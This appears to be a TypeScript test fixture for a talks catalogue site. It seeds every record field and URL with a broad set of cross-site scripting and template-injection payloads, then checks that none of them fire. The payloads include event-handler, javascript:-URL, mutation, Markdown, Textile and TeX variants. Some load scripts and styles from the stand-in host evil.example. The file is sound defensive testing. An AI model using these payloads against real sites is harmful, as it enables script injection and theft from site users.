import {
  collection,
  organisation,
  person,
  series,
  slugOf,
  talk,
  topic,
  venue,
} from '../support/catalogue/wire-records.ts';
import type { WireRecord } from '../support/catalogue/wire-records.ts';

/**
 * Text that would run if any page, script, image or document took it for code. If it runs, it calls `canary`, requests
 * something from evil.example, or opens a dialog; `§` stands for the call.
 */
const ATTEMPTS: Readonly<Record<string, string>> = {
  script: '<script>§</script><SCRIPT SRC=//evil.example/x.js></SCRIPT><script src="data:text/javascript,§"></script>',
  handlers:
    '<img src=x onerror=§><svg onload=§><body onload=§><details open ontoggle=§><input autofocus onfocus=§><video><source onerror=§></video><div onpointerover=§ style=position:fixed;inset:0>x</div>',
  'end of an attribute': `" onmouseover="§" autofocus onfocus="§" x="' onmouseover='§' autofocus onfocus='§' x='\` onmouseover=§`,
  'end of an element':
    '</title></h1></a></script></style></textarea></noscript></template></select></math></svg>--><img src=x onerror=§>',
  'end of data': `]]></script><script>§</script><!--<script>--!><img src=x onerror=§>\u2028§\u2029</script >`,
  'end of text in a script': `';§;//";§;//\\';§;//\\";§//\`;§//\${§}</script><script>§</script>`,
  addresses:
    '<a href="javascript:§">a</a><a href="jAva\tscript:§">a</a><a href="&#x6A;avascript:§">a</a><a href="\x01javascript:§">a</a><form action="javascript:§"><button>b</button></form><button formaction="javascript:§">c</button><iframe src="javascript:§"></iframe><iframe srcdoc="&lt;img src=x onerror=§&gt;"></iframe><object data="javascript:§"></object><embed src="javascript:§"><base href="javascript:/§/"><a href="data:text/html,&lt;script&gt;§&lt;/script&gt;">d</a><a href="vbscript:§">e</a>',
  'styles and remote resources':
    '<style>@import "//evil.example/x.css";*{background:url(//evil.example/y)}</style><link rel=stylesheet href=//evil.example/z.css><meta http-equiv=refresh content="0;url=//evil.example/"><img src=//evil.example/p.png><div style="background:url(//evil.example/q)">x</div><link rel=preload as=image href=//evil.example/l.png><img srcset="//evil.example/s.png 1x"><video poster=//evil.example/v.png></video>',
  mutation:
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=§&gt;"></table></mtext></math><svg></p><style><a id="</style><img src=1 onerror=§>"><noscript><p title="</noscript><img src=x onerror=§>"><form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=§ src>"><template><img src=x onerror=§></template>',
  templates:
    '{{constructor.constructor("§")()}} ${§} #{§} <%= § %> {{{§}}} [[${§}]] {% raw %}§{% endraw %} *{§} @(§) <div v-html="\'§\'" x-data="§" ng-app ng-csp>{{$on.constructor("§")()}}</div>',
  Markdown:
    '[a](javascript:§) [b](<javascript:§>) [c](java\tscript:§) ![d](javascript:§) ![e](https://evil.example/m.png) ![f](//evil.example/n.png) <javascript:§> [g]: javascript:§\n\n[g]\n\n[h]: javascript:§\n\n[h](data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==) [i](https://x.example/"onmouseover="§) [j](vbscript:§) [k](&#106;avascript:§) [l](%6Aavascript:§)\n\n<div onclick=§>m</div>\n\n```<img src=x onerror=§>\n<script>§</script>\n```\n\n| a | <img src=x onerror=§> |\n|---|---|\n| `</code><img src=x onerror=§>` | b |\n\nhttps://x.example/?a="><img/src=x/onerror=§>',
  Textile:
    '"a":javascript:§ !javascript:§! !https://evil.example/t.png! !https://evil.example/t.png(§)!:javascript:§ %{background:url(//evil.example/u)}b% p(onclick=§). c\n\nh1{color:red;background:url(javascript:§)}. d\n\n==<img src=x onerror=§>==\n\n<notextile><script>§</script></notextile>\n\nnotextile. <script>§</script>\n\nbc. </code></pre><img src=x onerror=§>\n\n"e(" onmouseover="§)":https://x.example/',
  TeX: '$\\href{javascript:§}{x}$ $\\url{javascript:§}$ $\\text{<img src=x onerror=§>}$ $$\\htmlClass{" onmouseover="§}{x} \\htmlStyle{background:url(//evil.example/w)}{x} \\htmlData{x="><img src=x onerror=§>}{y}$$ $\\includegraphics{//evil.example/g.png}$ \\(\\unicode{x3C}script>§\\) \\[\\def\\a{\\a\\a}\\a\\] $\\def\\b{<script>§</script>}\\b$ $\\class{x}{\\cssId{a"onclick="§}{y}}$ $<img src=x onerror=§>$ $\\style{background-image:url(//evil.example/h)}{x}$ $\\mathchoice{<svg onload=§>}{}{}{}$',
  'a javascript: address': 'javascript:§//https://x.example/%0A§',
  'a javascript: address, disguised': '  \tjaVasCript\n:§//',
  'a data: address': 'data:text/html,<script>§</script>',
  'an address that ends early': 'https://x.example/"><img src=x onerror=§>?a=\'onclick=§//',
  'an address elsewhere': '//evil.example/\\@x.example/"onfocus=§',
  'an e-mail address': 'a@x.example?cc=b@evil.example&subject="><img src=x onerror=§>',
  'names of globals':
    '__proto__ constructor toString <img name=body id=main><form id=location name=cookie><a id=lectern>',
  direction: '\u202egpj.§\u2066\u2067\u2068 \u200fabc\u200e \u202d\u202b\u061c<bdo dir=rtl>§</bdo>\u2069\u202c',
  'odd characters': '\x01\x02\x0b\x1b[2J\x7f\x85\ufffe\uffff\ufeff\u{e0001}<\x08script>§\u180e\u200b',
};

/** The call of the payload, which avoids most quotation marks and brackets. */
const CANARY = 'canary()';

/** Pages of records with one attempt in every field that allows it. */
interface HostilePages {
  readonly name: string;
  /** Pages of its records. */
  readonly paths: readonly string[];
  /** Pages with the attempt in their query. */
  readonly asking: readonly string[];
}

/** The week of all talks of the catalogue, so that calendars show them. */
const HOSTILE_WEEK = '2041-W22';
const MONDAY = Date.UTC(2041, 4, 27);

interface Hostile {
  readonly name: string;
  readonly text: string;
  readonly at: number;
}

const HOSTILE: readonly Hostile[] = Object.entries(ATTEMPTS).map(([name, text], at) => ({
  name,
  text: text.replaceAll('§', CANARY),
  at,
}));

/** Fields have the raw text; identifiers and times are well-formed. */
export function hostileRecords(): readonly WireRecord[] {
  return HOSTILE.flatMap(recordsOf);
}

export function hostilePages(): readonly HostilePages[] {
  return HOSTILE.map((one) => {
    const { organisationId, venueId, topicUri, slugs } = identifiersOf(one);
    return {
      name: one.name,
      paths: [
        `/talks/id/${slugs.talk}`,
        `/talks/series/id/${slugs.series}`,
        `/talks/persons/id/${slugs.person}`,
        `/user/lists/id/${slugs.collection}`,
        `/talks/department/id/${organisationId}`,
        `/talks/venues/id/${venueId}`,
        `/talks/topics/id/?uri=${encodeURIComponent(topicUri)}`,
      ],
      asking: [
        `/search?q=${encodeURIComponent(one.text)}`,
        `/search?from=2041-01-01&topic=${encodeURIComponent(topicUri)}&speaker=${slugs.person}&series=${slugs.series}`,
      ],
    };
  });
}

function identifiersOf({ text, at }: Hostile) {
  const slugs = {
    talk: slugOf(0x10_0000 + at),
    series: slugOf(0x20_0000 + at),
    person: slugOf(0x30_0000 + at),
    collection: slugOf(0x40_0000 + at),
  };
  // Only topic identifiers may have more than letters and digits: some characters raw, the others percent-encoded.
  const topicUri = `http://topics.example.org/${String(at)}?'{${CANARY}}|;[x](javascript:${CANARY})${encodeURIComponent(text).slice(0, 300)}`;
  return { organisationId: `place:${8000 + at}`, venueId: `place:${8500 + at}`, topicUri, slugs };
}

function recordsOf(one: Hostile): readonly WireRecord[] {
  const { text, at } = one;
  const { organisationId, venueId, topicUri, slugs } = identifiersOf(one);
  const start = new Date(MONDAY + (at % 7) * 86_400_000 + 9 * 3_600_000 + at * 60_000).toISOString().slice(0, 19);
  const place = { name: text, address: text };
  return [
    organisation(organisationId, place),
    venue(venueId, { ...place, latitude: 51.75, longitude: -1.25 }),
    person(slugs.person, { name: text, bio: text, web_address: text, email_address: text }),
    topic(topicUri, { label: text }),
    series(slugs.series, { title: text, description: text, occurence: text, web_address: text }),
    talk(slugs.talk, `${start}Z`, {
      uid: text.slice(0, 1000),
      title: text,
      description: text,
      status: (['published', 'cancelled', 'preparation'] as const)[at % 3],
      series: slugs.series,
      venue: venueId,
      location_details: text,
      organising_department: organisationId,
      topics: [topicUri],
      speakers: [slugs.person],
      hosts: [slugs.person],
      organisers: [slugs.person],
      organiser_email: text,
      audience: text,
      booking_required: text,
      booking_url: text,
      booking_email: text,
      cost: text,
      special_message: text,
      online_url: text,
    }),
    collection(slugs.collection, {
      title: text,
      description: text,
      talks: [slugs.talk],
      series: [slugs.series],
      organising_departments: [organisationId],
    }),
  ];
}

/** Pages that show all attempts. */
export function sharedPages(): readonly string[] {
  const browsed = ['series', 'departments', 'people', 'topics', 'venues', 'collections'];
  return [
    '/',
    '/search?from=2041-05-27&count=100',
    '/calendar/month/2041-05',
    `/calendar/week/${HOSTILE_WEEK}`,
    '/agenda?from=2041-05-27',
    '/talks/date/2041/05/27/',
    ...browsed.map((what) => `/browse/${what}`),
  ];
}

/** Addresses with attempts in path and query. */
export function hostileAddresses(): readonly string[] {
  return HOSTILE.slice(0, 6).flatMap(({ text }) => addressesWith(encodeURIComponent(text)));
}

function addressesWith(text: string): readonly string[] {
  return [
    `/search?from=${text}&to=${text}&speaker=${text}&series=${text}&venue=${text}&organising_department=${text}&topic=${text}&count=${text}&page=${text}&lang=${text}&order=${text}`,
    `/search?${text}=${text}&from=2041-01-01`,
    `/agenda?from=${text}&q=${text}`,
    `/calendar/month/2041-05?q=${text}`,
    `/calendar/month/${text}`,
    `/browse/people?letter=${text}&page=${text}`,
    `/talks/id/${text}`,
    `/talks/topics/id/?uri=${text}`,
    `/oembed?url=${text}&maxwidth=${text}`,
    `/embed?layout=${text}&q=${text}`,
    `/${text}?lang=${text}#${text}`,
  ];
}
